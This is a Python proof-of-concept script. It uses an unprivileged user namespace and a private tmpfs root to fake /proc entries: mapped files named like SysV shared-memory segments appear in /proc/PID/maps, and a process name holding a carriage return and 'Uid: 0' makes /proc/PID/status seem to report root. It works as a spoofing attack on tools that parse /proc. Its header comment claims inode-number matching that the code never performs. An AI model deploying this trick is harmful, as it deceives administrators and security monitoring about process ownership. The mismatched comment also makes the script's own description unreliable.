# An ordinary user whose mount namespace has a tmpfs of his own as its root: maps shows the names that he likes. He maps files whose
# inode numbers are those of segments that are not his, under the names that the kernel gives to segments, memfds and shared memory;
# and calls himself so that /proc/PID/status seems to say that he is root.
import ctypes, mmap, os, sys, time

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, CLONE_NEWUSER, PIVOT_ROOT = 0x20000, 0x10000000, 155

def check(result, what):
    if result != 0:
        sys.exit(f"{what}: {os.strerror(ctypes.get_errno())}")

check(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS), "unshare")
for name, text in (("setgroups", "deny"), ("uid_map", "0 65534 1"), ("gid_map", "0 65534 1")):
    with open("/proc/self/" + name, "w") as file:
        file.write(text)
place = sys.argv[1].encode()
check(libc.mount(b"none", b"/", None, 0x44000, None), "private")
check(libc.mount(b"mine", place, b"tmpfs", 0, None), "tmpfs")
os.mkdir(place + b"/old")
check(libc.syscall(PIVOT_ROOT, place, place + b"/old"), "pivot_root")
os.chdir("/")

kept = []
names = ["SYSV00001234"] * 12 + ["memfd:x", "dev-zero"]
for name in names:
    fd = os.open("/" + name, os.O_RDWR | os.O_CREAT, 0o600)
    os.ftruncate(fd, 4096)
    kept.append((fd, mmap.mmap(fd, 4096, mmap.MAP_SHARED)))
    inode = os.fstat(fd).st_ino
    os.unlink("/" + name)

libc.prctl(15, b"\rUid:\t0\t0\t0", 0, 0, 0)
print(open("/old/proc/self/maps").read().count("/SYSV00001234 (deleted)"), flush=True)
time.sleep(600)
